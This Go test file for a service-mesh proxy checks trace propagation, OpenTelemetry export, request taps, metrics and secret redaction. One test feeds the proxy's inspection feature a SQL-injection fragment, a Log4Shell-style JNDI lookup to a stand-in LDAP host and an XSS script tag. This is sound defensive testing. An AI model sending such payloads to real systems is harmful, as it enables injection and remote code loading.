package mesh

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	logs "go.opentelemetry.io/proto/otlp/logs/v1"
	pb "google.golang.org/grpc/interop/grpc_testing"
	"google.golang.org/protobuf/proto"

	api "hauberk.dev/api/mesh"
	"hauberk.dev/mesh/trace"
	"hauberk.dev/plan"
)

// safeBuffer is written by one goroutine and read by another.
type safeBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *safeBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *safeBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// until asks again until it is so.
func until(t *testing.T, what string, so func() bool) {
	t.Helper()
	for end := time.Now().Add(20 * time.Second); !so(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("%s: not so", what)
		}
	}
}

// collector takes spans as a collector of OpenTelemetry does.
func collector(t *testing.T) (address string, spans func() map[string]map[string]string) {
	t.Helper()
	var mu sync.Mutex
	all := map[string]map[string]string{}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var in struct {
			ResourceSpans []struct {
				ScopeSpans []struct {
					Spans []struct {
						TraceID, SpanID, ParentSpanID, Name string
						Attributes                          []struct {
							Key   string
							Value struct{ StringValue string }
						}
					}
				}
			}
		}
		if err := json.NewDecoder(r.Body).Decode(&in); err != nil || r.URL.Path != "/v1/traces" {
			t.Errorf("%s: %v", r.URL, err)
		}
		mu.Lock()
		defer mu.Unlock()
		for _, rs := range in.ResourceSpans {
			for _, ss := range rs.ScopeSpans {
				for _, s := range ss.Spans {
					one := map[string]string{"trace": s.TraceID, "span": s.SpanID, "parent": s.ParentSpanID, "name": s.Name}
					for _, a := range s.Attributes {
						one[a.Key] = a.Value.StringValue
					}
					all[cmp.Or(one["url.path"], one["rpc.method"])] = one
				}
			}
		}
		io.WriteString(w, "{}")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().String(), func() map[string]map[string]string {
		mu.Lock()
		defer mu.Unlock()
		out := map[string]map[string]string{}
		for k, v := range all {
			out[k] = v
		}
		return out
	}
}

// recorder takes the log as a collector does, and gives paths and verdicts.
func recorder(t *testing.T) (address string, records func() map[string]string) {
	t.Helper()
	var mu sync.Mutex
	all := map[string]string{}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		in := &logs.LogsData{}
		if err == nil {
			err = proto.Unmarshal(b, in)
		}
		if err != nil || r.URL.Path != "/v1/logs" {
			t.Errorf("%s: %v", r.URL, err)
		}
		mu.Lock()
		defer mu.Unlock()
		for _, rl := range in.ResourceLogs {
			for _, sl := range rl.ScopeLogs {
				for _, rec := range sl.LogRecords {
					path, verdict := "", ""
					for _, a := range rec.Attributes {
						switch a.Key {
						case "url.path":
							path = a.Value.GetStringValue()
						case "hauberk.verdict":
							verdict = a.Value.GetStringValue()
						}
					}
					all[path] = verdict
				}
			}
		}
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().String(), func() map[string]string {
		mu.Lock()
		defer mu.Unlock()
		return maps.Clone(all)
	}
}

// TestObserve has requests of HTTP/1, HTTP/2 and gRPC followed, logged, counted
// and tapped, and their traces carried on.
func TestObserve(t *testing.T) {
	const trace, span = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
	log := &safeBuffer{}
	w := newWorldOf(t, Options{Requests: log, tapPatience: time.Minute})
	address, spans := collector(t)
	logged, records := recorder(t)
	web := w.add("web", nil, nil, nil)
	m := newMint(t)
	b := w.add("api", httpPort, []plan.Rule{{Name: "open", From: []string{"*"}}}, []plan.Rule{{Name: "never", From: []string{"*"}, Paths: []string{"/denied*"}}})
	bank := w.add("bank", grpcPort, anyone(), nil)
	of := m.issuer()
	of.Header = "X-Proof"
	w.service("api").Issuers = []plan.Issuer{of}
	w.plan.Observe = &plan.Observe{Log: "json", LogCollector: &plan.Collector{Address: logged}, Traces: &plan.Traces{Collector: address, PerMille: 1000}}
	w.plan.Generation++
	w.apply()
	bank.serveGRPC(t)
	srv := &http.Server{Protocols: new(http.Protocols), Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		for _, name := range []string{"Traceparent", "Tracestate", "B3", "X-B3-Traceid", "X-B3-Spanid", "X-B3-Parentspanid", "X-B3-Sampled", "Sofa-Traceid", "Sofa-Rpcid"} {
			for _, v := range r.Header.Values(name) {
				fmt.Fprintf(rw, "%s: %s\n", name, v)
			}
		}
	})}
	srv.Protocols.SetHTTP1(true)
	srv.Protocols.SetUnencryptedHTTP2(true)
	go srv.Serve(b.listen(t, 8080))
	defer srv.Close()

	if _, err := w.link.Tap(t.Context(), "api-1", 7); err != nil {
		t.Fatal(err)
	}
	if _, err := w.link.Tap(t.Context(), "web-9", 8); err == nil {
		t.Error("an instance that is not there was tapped")
	}
	one := &http.Client{Timeout: time.Minute, Transport: &http.Transport{DialContext: func(_ context.Context, network, address string) (net.Conn, error) { return web.dial(network, address) }}}
	defer one.CloseIdleConnections()
	get := func(client *http.Client, path string, header ...string) string {
		t.Helper()
		req, err := http.NewRequestWithContext(t.Context(), "GET", "http://10.99.0.2:8080"+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return string(body)
	}
	want := map[string][]string{}
	for version, client := range map[string]*http.Client{"one": one, "two": web.http2Client(t)} {
		path := "/" + version
		got := get(client, path+"/w3c?secret=1", "traceparent", "00-"+trace+"-"+span+"-01", "tracestate", "a=b", "authorization", "Bearer xyz", "cookie", "k=v",
			"x-proof", "xyz", "x-goog-api-key", "xyz", "x-password", "xyz", "x-session-id", "xyz", "x-auth", "xyz", "x-jwt-assertion", "xyz")
		if !strings.HasPrefix(got, "Traceparent: 00-"+trace+"-") || strings.Contains(got, span) || !strings.Contains(got, "-01\nTracestate: a=b\n") || strings.Count(got, "\n") != 2 {
			t.Errorf("%s, W3C: %s", version, got)
		}
		want[path+"/w3c"] = []string{trace, span}
		got = get(client, path+"/b3", "b3", trace+"-"+span+"-1")
		if !strings.HasPrefix(got, "B3: "+trace+"-") || !strings.Contains(got, "-1-"+span+"\n") {
			t.Errorf("%s, b3: %s", version, got)
		}
		want[path+"/b3"] = []string{trace, span}
		got = get(client, path+"/multi", "x-b3-traceid", trace[16:], "x-b3-spanid", span, "x-b3-sampled", "1")
		if !strings.Contains(got, "X-B3-Traceid: 0000000000000000"+trace[16:]) || !strings.Contains(got, "X-B3-Parentspanid: "+span) || strings.Contains(got, "X-B3-Spanid: "+span) {
			t.Errorf("%s, several fields: %s", version, got)
		}
		want[path+"/multi"] = []string{"0000000000000000" + trace[16:], span}
		got = get(client, path+"/sofa", "SOFA-TraceId", "0a0fe8ec1530849379165100312345", "SOFA-RpcId", "0.1")
		if !strings.Contains(got, "Sofa-Traceid: 0a0fe8ec1530849379165100312345\nSofa-Rpcid: 0.1\n") || !strings.Contains(got, "Traceparent: 00-") {
			t.Errorf("%s, SOFATracer: %s", version, got)
		}
		want[path+"/sofa"] = []string{"", ""}
		if got = get(client, path+"/new", "traceparent", "00-"+strings.Repeat("0", 32)+"-"+span+"-01"); !strings.HasPrefix(got, "Traceparent: 00-") || strings.Contains(got, span) {
			t.Errorf("%s, a trace that is none: %s", version, got)
		}
		want[path+"/new"] = []string{"", ""}
		get(client, path+"/unsampled", "traceparent", "00-"+trace+"-"+span+"-00")
		get(client, "/denied/"+version)
	}
	client := web.grpcClient(t, w.service("bank").Address.String()+":9090")
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	if _, err := client.EmptyCall(ctx, &pb.Empty{}); err != nil {
		t.Fatal(err)
	}
	want["/grpc.testing.TestService/EmptyCall"] = []string{"", ""}

	until(t, "records", func() bool {
		r := records()
		return r["/one/w3c"] == "allowed" && r["/denied/two"] == "denied" && r["/grpc.testing.TestService/EmptyCall"] == "allowed"
	})
	until(t, "spans", func() bool { return len(spans()) >= len(want) })
	got := spans()
	for path, ids := range want {
		s := got[path]
		if s == nil || ids[0] != "" && s["trace"] != ids[0] || s["parent"] != ids[1] || len(s["span"]) != 16 || s["hauberk.peer"] != spiffe("web") {
			t.Errorf("span of %s: %v", path, s)
		}
	}
	if got["/one/unsampled"] != nil || got["/one/sofa"]["trace"] != got["/two/sofa"]["trace"] || got["/one/sofa"]["sofa.rpc_id"] != "0.1" || got["/one/new"]["trace"] == got["/two/new"]["trace"] {
		t.Errorf("%v", got)
	}
	if s := got["/grpc.testing.TestService/EmptyCall"]; s["rpc.grpc.status_code"] != "0" || s["http.response.status_code"] != "" {
		t.Errorf("gRPC: %v", s)
	}

	var tapped []api.Request
	until(t, "tap", func() bool {
		p, err := w.link.Tap(t.Context(), "api-1", 7)
		if err != nil {
			t.Fatal(err)
		}
		tapped = append(tapped, p.Requests...)
		return len(tapped) >= 14
	})
	seen := map[string]api.Request{}
	for _, r := range tapped {
		seen[r.Path] = r
	}
	for _, version := range []string{"one", "two"} {
		r := seen["/"+version+"/w3c"]
		if r.Status != 200 || r.Verdict != "allowed" || r.Rule != "open" || r.Trace != trace || r.Peer != spiffe("web") || r.Service != "api.bank" || r.Micros <= 0 {
			t.Errorf("%+v", r)
		}
		if h := fmt.Sprint(r.Header); strings.Contains(h, "xyz") || strings.Contains(h, "k=v") || !strings.Contains(h, "{authorization (not shown)}") || !strings.Contains(h, "{tracestate a=b}") {
			t.Errorf("fields: %s", h)
		}
		if r = seen["/denied/"+version]; r.Status != 403 || r.Verdict != "denied" || r.Rule != "never" {
			t.Errorf("%+v", r)
		}
	}
	until(t, "log", func() bool { return strings.Count(log.String(), "\n") == 15 })
	if l := log.String(); strings.Contains(l, "secret") || strings.Contains(l, "xyz") || !strings.Contains(l, `"path":"/two/b3","verdict":"allowed","rule":"open","status":200`) || !strings.Contains(l, `"grpc":"0"`) {
		t.Errorf("log:\n%s", l)
	}
	metrics := scrape(t, w.proxy)
	for _, line := range []string{`hauberk_mesh_requests_total{service="api.bank",protocol="http",code="2xx",verdict="allowed"} 12`,
		`hauberk_mesh_requests_total{service="api.bank",protocol="http",code="4xx",verdict="denied"} 2`,
		`hauberk_mesh_requests_total{service="bank.bank",protocol="grpc",code="0",verdict="allowed"} 1`,
		`hauberk_mesh_request_seconds_count{service="api.bank"} 14`, `hauberk_mesh_refused_total{instance="api-1"} 2`} {
		if !strings.Contains(metrics, line+"\n") {
			t.Errorf("no line %s in:\n%s", line, metrics)
		}
	}
}

// scrape reads the metrics over a socket.
func scrape(t *testing.T, p *Proxy) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "a.sock")
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- p.ServeAdmin(ctx, ln) }()
	c, err := net.Dial("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	stop()
	if err := <-done; err != nil {
		t.Error(err)
	}
	return string(body)
}

// TestTapIsBounded: a tap that nobody reads holds so much and no more, and ends.
func TestTapIsBounded(t *testing.T) {
	p := New(Options{})
	p.sandboxes["i"] = &sandbox{}
	for id := range uint64(maxTaps) {
		if _, err := p.tap("i", id+1); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := p.tap("i", 99); err == nil {
		t.Error("one tap too many")
	}
	if _, err := p.tap("j", 1); err == nil {
		t.Error("an instance that is not there")
	}
	for range maxTapped + 5 {
		p.observer.tapped(api.Request{Instance: "i"})
	}
	got, err := p.tap("i", 1)
	if err != nil || len(got.Requests) != maxTapped || got.Lost != 5 {
		t.Errorf("%d and %d lost, %v", len(got.Requests), got.Lost, err)
	}
	p.observer.sweep(time.Now().Add(2 * tapPatience))
	if n := p.observer.taps.Load(); n != 0 || len(p.observer.rings) != 0 {
		t.Errorf("%d taps go on", n)
	}
}

// TestTapOfLargeFields: fields that are large, and larger as JSON, end neither the
// tap nor the link.
func TestTapOfLargeFields(t *testing.T) {
	w := newWorld(t)
	web := w.add("web", nil, nil, nil)
	b := w.add("api", httpPort, anyone(), []plan.Rule{{Name: "never", From: []string{"*"}, Paths: []string{"/denied"}}})
	w.apply()
	b.listen(t, 8080)
	tap := func() api.Tapped {
		t.Helper()
		p, err := w.link.Tap(t.Context(), "api-1", 7)
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	tap()
	head := "GET /denied HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("&", 40<<10) + ": a\r\n"
	for i := range 63 {
		head += fmt.Sprintf("x-%d: %s\r\n", i, strings.Repeat("&", 300))
	}
	for range 60 {
		c := web.mustDial(t, "10.99.0.2:8080")
		if got, _, _, err := request1(t, c, head+"\r\n"); err != nil || got != 403 {
			t.Fatalf("%d, %v", got, err)
		}
		c.Close()
	}
	got := tap()
	if n := uint64(len(got.Requests)); got.Lost == 0 || n == 0 || n+got.Lost != 60 {
		t.Errorf("%d requests and %d lost", n, got.Lost)
	}
	for _, r := range got.Requests {
		if n := len(r.Header[0].Name) + len(r.Header[len(r.Header)-1].Value); n > 1000 {
			t.Fatalf("%d bytes of two fields", n)
		}
	}
	if err := w.link.Ping(t.Context()); err != nil {
		t.Errorf("the link after it: %v", err)
	}
	if again := tap(); again.Lost != 0 || len(again.Requests) != 0 {
		t.Errorf("told twice: %d and %d lost", len(again.Requests), again.Lost)
	}
}

// TestCodesOfForeignServers: a code of gRPC is a number, whatever a server says.
func TestCodesOfForeignServers(t *testing.T) {
	for in, want := range map[string]string{"0": "0", "16": "16", "": "2", "-1": "2", "100": "2", "7\nx": "2", "+5": "2", strings.Repeat("&", 1<<16): "2"} {
		if got := grpcCode(in); got != want {
			t.Errorf("%.20q: %q; want %q", in, got, want)
		}
	}
}

// TestStrangersSample: whoever has proved no identity does not decide that a
// request is sampled.
func TestStrangersSample(t *testing.T) {
	for peer, want := range map[string]bool{anonymous: false, spiffe("web"): true} {
		var r trace.Reader
		r.Field("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
		c := (&sight{a: &arrival{who: party{peerIdentity: peer}}}).next(&r, &plan.Traces{})
		if c.Sampled != want || c.Parent == [8]byte{} {
			t.Errorf("%s: sampled %v, parent %x", peer, c.Sampled, c.Parent)
		}
	}
}

// TestNoSecretInEvents: what comes after the question mark of a target, and the
// values of fields that hold secrets, are told to nobody.
func TestNoSecretInEvents(t *testing.T) {
	w := newWorld(t)
	web := w.add("web", nil, nil, nil)
	b := w.add("api", httpPort, []plan.Rule{{Name: "open", From: []string{"*"}, Paths: []string{"/open*"}}}, []plan.Rule{{Name: "trial", From: []string{"*"}, Paths: []string{"/open/trial*"}, Audit: true}})
	w.service("api").Inspect = &plan.Inspect{Observe: 1}
	w.apply()
	srv := &http.Server{Protocols: new(http.Protocols), Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) })}
	srv.Protocols.SetHTTP1(true)
	srv.Protocols.SetUnencryptedHTTP2(true)
	go srv.Serve(b.listen(t, 8080))
	defer srv.Close()
	one := &http.Client{Timeout: time.Minute, Transport: &http.Transport{DialContext: func(_ context.Context, network, address string) (net.Conn, error) { return web.dial(network, address) }}}
	defer one.CloseIdleConnections()
	const attack = "1' union select a, b from c"
	bodies := map[string]string{"1": "${jndi:ldap://x/a}", "2": "<script>alert(1)</script>"} // one kind is told once for a while
	for version, client := range map[string]*http.Client{"1": one, "2": web.http2Client(t)} {
		for _, path := range []string{"/refused", "/open/trial", "/open/cookie", "/open/body", "/end"} {
			method, body := "GET", io.Reader(http.NoBody)
			if path == "/open/body" {
				method, body = "POST", io.MultiReader(strings.NewReader(`{"q":"`+bodies[version]+`"}`)) // of unknown length
			}
			req, err := http.NewRequestWithContext(t.Context(), method, "http://10.99.0.2:8080"+path+version+"?key=SECRET", body)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "application/json")
			if path == "/open/cookie" {
				req.Header.Set("Cookie", "s=SECRET"+attack)
				req.Header.Set("Authorization", "Bearer SECRET"+attack)
			}
			resp, err := client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
		}
		w.awaitEvent(api.EventAccessDenied, "/refused"+version)
		w.awaitEvent(api.EventAccessDenied, "/end"+version) // those before it are there too
	}
	c := web.mustDial(t, "10.99.0.2:8080")
	io.WriteString(c, "GET refused?key=SECRET HTTP/1.1\r\nHost: x\r\n\r\n")
	w.awaitEvent(api.EventBadRequest, "refused")
	w.awaitEvent(api.EventWouldDeny, "/open/trial")
	w.awaitEvent(api.EventFinding, "/open/cookie")
	w.awaitEvent(api.EventFinding, "/open/body1")
	w.awaitEvent(api.EventFinding, "/open/body2")
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, e := range w.events {
		if strings.Contains(e.Rule+e.Reason, "SECRET") || strings.Contains(e.Reason, "key=") {
			t.Errorf("%+v", e)
		}
	}
}

// TestCountsAllocateNothing: what is always done for a request costs no memory.
func TestCountsAllocateNothing(t *testing.T) {
	p := New(Options{})
	a := &arrival{p: p, protocol: "http"}
	s := p.observer.look(a)
	if n := testing.AllocsPerRun(100, func() {
		n := note{begin: time.Now(), method: "GET", path: "/"}
		s.ended(&n, 200, "", 10)
		s.passes(nil, nil, 0, false)
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}
